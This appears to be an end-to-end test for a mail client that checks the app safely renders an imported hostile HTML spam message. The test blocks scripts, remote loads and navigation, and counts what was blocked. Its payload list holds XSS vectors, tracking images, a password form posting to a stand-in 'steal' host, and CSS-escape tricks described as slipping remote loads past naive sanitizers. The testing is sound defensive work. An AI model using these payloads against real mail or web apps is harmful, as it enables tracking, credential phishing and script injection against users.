// Open hostile HTML mail in the real app while watching every request the
// browser makes and every dialog or console message a script could cause.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openHarness, Harness } from './harness';
import { appPage } from './pages/app';

const HOSTILE = [
  '<script>alert("pwned-script")</script>',
  '<img src="http://remote.example/track.gif" onerror="alert(\'pwned-onerror\')">',
  '<img src="https://remote.example/beacon.png" srcset="https://remote.example/b2.png 2x">',
  '<style>@import url("http://remote.example/evil.css"); body { background: url(http://remote.example/bg.png) }</style>',
  '<link rel="stylesheet" href="http://remote.example/style.css">',
  '<meta http-equiv="refresh" content="0;url=http://remote.example/">',
  '<a href="javascript:alert(\'pwned-link\')">click me</a>',
  '<form action="http://remote.example/steal"><input name="password"><button>Go</button></form>',
  '<svg><script>alert("pwned-svg")</script><image href="http://remote.example/svg.png"/></svg>',
  '<iframe src="http://remote.example/frame"></iframe>',
  '<object data="http://remote.example/x.swf"></object>',
  '<div style="background-image:url(\'http://remote.example/div.png\')">Congratulations, you won!</div>',
  // CSS escapes, image-set() and a srcset that starts inline: each hides a remote load from a naive sanitizer.
  '<div style="background: u\\72l(http://remote.example/escaped-url.png)">escaped url</div>',
  '<style>@\\69mport "http://remote.example/escaped-import.css"; p { color: red }</style>',
  '<div style="background-image: image-set(\'http://remote.example/image-set.png\' 1x)">image-set</div>',
  '<div style="background-image: -webkit-image-set(\'http://remote.example/webkit-image-set.png\' 1x)">webkit</div>',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="data:image/gif;base64,R0lGODlhAQABAAAAACw= 1x, https://remote.example/srcset-2x.png 2x">',
  '<body onload="alert(\'pwned-onload\')"><p>Claim your prize now</p></body>',
].join('\n');

const message = [
  'From: Prize Department <winner@lottery.example>',
  'To: you@example.org',
  'Subject: You are a WINNER (hostile html test)',
  'Date: Tue, 1 Oct 2002 10:00:00 +0000',
  'MIME-Version: 1.0',
  'Content-Type: text/html; charset=utf-8',
  '',
  `<html><head><title>x</title></head><body>${HOSTILE}</body></html>`,
  '',
].join('\r\n');

let h: Harness;
beforeAll(async () => {
  h = await openHarness();
  // A load the CSP blocks makes no request: the page and its frames report it as this event instead.
  await h.page.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', (e) =>
      console.log(`securitypolicyviolation ${e.violatedDirective} ${e.blockedURI} in ${e.documentURI}`),
    ),
  );
  const file = path.join(h.dir, 'hostile.eml');
  fs.writeFileSync(file, message);
  const result = await h.backend.handle('import.paths', { paths: [file], label: 'spam' });
  expect(result.ok).toBe(true);
});
afterAll(() => h.close());

describe('hostile HTML mail', () => {
  it('shows the message with no script run, no remote request and no navigation', async () => {
    const app = appPage(h.page);
    await h.page.reload();
    await app.nav('dataset');
    await app.dataset.open('WINNER');
    await h.page.waitForSelector('iframe.mail-frame');
    await h.page.waitForTimeout(1500);

    const origin = new URL(h.host.url).origin;
    const foreign = h.requests.filter((url) => !url.startsWith(origin) && !url.startsWith('data:') && !url.startsWith('about:'));
    expect(foreign).toEqual([]);
    expect(h.dialogs).toEqual([]);
    expect(h.consoleMessages.filter((m) => m.includes('pwned'))).toEqual([]);
    expect(h.page.url()).toBe(h.host.url + '#dataset');
    // The frame runs no script, so nothing can listen there: Chromium's console reports of its policy stand in.
    const violations = h.consoleMessages.filter((m) =>
      /^securitypolicyviolation |Content Security Policy directive|Blocked script execution/.test(m),
    );
    // Parsing the mail in an inert document makes Chromium report every inline handler it meets, against the
    // app's own policy; none runs (no dialog, no "pwned" above) and the sanitizer then removes them all.
    const inertParse = (m: string) =>
      m.startsWith('Executing inline event handler violates') ||
      m.startsWith(`securitypolicyviolation script-src-attr inline in ${origin}/`);
    expect(violations.filter((m) => !inertParse(m))).toEqual([]);
    // Fourteen remote URLs (img, srcset, CSS, link, iframe and the image inside the svg): each is counted.
    expect(await h.page.textContent('[data-testid=blocked-note]')).toMatch(
      /Blocked for your safety: 14 remote resources, \d+ scripts or handlers/,
    );

    const frame = h.page.frames().find((f) => f !== h.page.mainFrame());
    expect(await frame?.textContent('body')).toContain('Claim your prize now');
    const sandbox = await h.page.getAttribute('iframe.mail-frame', 'sandbox');
    expect(sandbox).toBe('');
    await h.screenshot('hostile-html-light');
  });
});
